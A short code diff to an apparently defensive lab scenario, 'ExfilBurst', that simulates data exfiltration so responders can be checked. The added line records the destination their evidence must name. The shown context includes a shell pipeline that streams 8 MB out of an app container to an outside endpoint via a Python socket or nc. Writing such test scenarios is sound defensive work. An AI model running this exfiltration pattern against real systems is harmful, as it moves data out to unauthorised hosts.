@@ -50,6 +50,7 @@ class ExfilBurst(Scenario):
                       f"s.sendall(sys.stdin.buffer.read()); s.shutdown(socket.SHUT_WR); "
                       f"[None for _ in iter(lambda: s.recv(65536), b'')]\"",
         }[tool]
+        lab.plant("destination", f"{sink}:{port}/tcp")  # what a responder's evidence must name
         lab.action(f"stream 8 MB out to the outside endpoint's port {port}")
         lab.exec(app, "sh", "-c", f"{pack} | {send}", timeout=60, check=tool == "nc")
         source = app.addresses["inet"]
